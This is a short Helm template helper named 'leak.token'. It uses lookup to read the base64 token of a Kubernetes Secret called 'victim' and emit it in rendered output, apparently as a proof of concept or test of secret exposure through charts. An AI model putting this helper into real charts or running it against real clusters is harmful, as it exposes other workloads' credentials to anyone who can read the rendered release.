{{/* The token of the Secret "victim", base64 as the API server gives it ("" without it). */}}
{{- define "leak.token" -}}
{{- $s := lookup "v1" "Secret" .Release.Namespace "victim" -}}
{{- if and $s $s.data -}}{{ index $s.data "token" }}{{- end -}}
{{- end -}}
